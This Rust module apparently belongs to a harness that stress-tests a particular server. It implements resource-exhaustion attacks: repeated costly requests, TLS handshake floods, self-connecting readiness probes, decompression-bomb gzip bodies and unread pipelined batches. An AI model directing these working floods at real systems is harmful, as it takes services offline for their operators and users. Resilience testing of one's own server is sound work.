//! Attacks with requests that cost the server more than the client.

use std::{sync::Arc, time::Duration};

use anyhow::Context;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::timeout,
};

use crate::{
    attacker::{Attacker, until_closed},
    bodies, http1,
    request::Request,
};

/// Sends a request again and again on persistent connections, and gives up after `limit`.
pub(super) fn repeat(attacker: &Attacker, clients: usize, request: Vec<u8>, limit: Duration, bad: bool) {
    let request = Arc::new(request);
    attacker.clients(clients, move |attacker, number| {
        let request = request.clone();
        async move {
            let mut tls = attacker.http1(number).await?;
            loop {
                attacker.requested(1);
                // An API server discards what comes later, and closes the connection.
                let answer = timeout(limit, http1::exchange(&mut tls, &request)).await??;
                attacker.answered(1);
                if bad && answer.status == 200 && answer.has(r#""allowed":true"#) {
                    attacker.let_in();
                }
            }
        }
    });
}

/// Objects that must be refused, with less time than all of them take.
pub(super) fn large_slices(attacker: &Attacker) {
    let request = Request::post("/validate?timeout=1s", bodies::large_bad_review().as_bytes()).http1();
    repeat(attacker, 60, request, Duration::from_secs(1), true);
}

pub(super) fn conversions(attacker: &Attacker) {
    let request = Request::post("/convert?timeout=30s", bodies::conversion(2 << 20).as_bytes()).http1();
    repeat(attacker, 75, request, Duration::from_secs(30), false);
}

/// Full handshakes, each on a connection that is then closed.
pub(super) fn handshakes(attacker: &Attacker) {
    for number in 0..32 {
        let attacker = attacker.clone();
        tokio::spawn(async move {
            loop {
                let _ = attacker.http1(number).await;
            }
        });
    }
}

/// Probes, each of which makes the server connect to itself.
pub(super) fn probes(attacker: &Attacker) {
    let request = Arc::new(Request::get("/readyz").http1());
    attacker.clients(32, move |attacker, number| {
        let request = request.clone();
        async move {
            let mut tcp = attacker.tcp(number, attacker.targets.admin).await?;
            loop {
                attacker.requested(1);
                http1::exchange(&mut tcp, &request).await?;
                attacker.answered(1);
            }
        }
    });
}

/// Bodies of some kilobytes that decode to tens of megabytes, and to objects of hundreds, from a few clients.
fn expanding(attacker: &Attacker, path: &'static str) {
    // Without bodies nothing is attacked, which is reported.
    let Ok(bodies) = bodies::expanding() else { return };
    let requests: Arc<[Vec<u8>]> = bodies.iter().map(|body| http1::post_gzip(path, body)).collect();
    attacker.clients(8, move |attacker, number| {
        let requests = requests.clone();
        async move {
            let mut tcp = attacker.tcp(number, attacker.targets.rest.context("no REST API")?).await?;
            attacker.requested(1);
            tcp.write_all(&requests[number % requests.len()]).await?;
            tcp.read_u8().await?;
            attacker.answered(1);
            until_closed(&mut tcp).await;
            Ok(())
        }
    });
}

pub(super) fn expanding_plans(attacker: &Attacker) {
    expanding(attacker, "/v1/plan");
}

pub(super) fn expanding_clusters(attacker: &Attacker) {
    expanding(attacker, "/v1/cluster");
}

/// Genuine requests that follow one another on persistent connections. The answers are left in the buffers.
pub(super) fn pipelined(attacker: &Attacker) {
    let batch = Arc::new(attacker.targets.site.request().http1().repeat(100));
    attacker.clients(64, move |attacker, number| {
        let batch = batch.clone();
        async move {
            let mut tls = attacker.http1(number).await?;
            loop {
                attacker.requested(100);
                tls.write_all(&batch).await?;
                tls.flush().await?;
            }
        }
    });
}
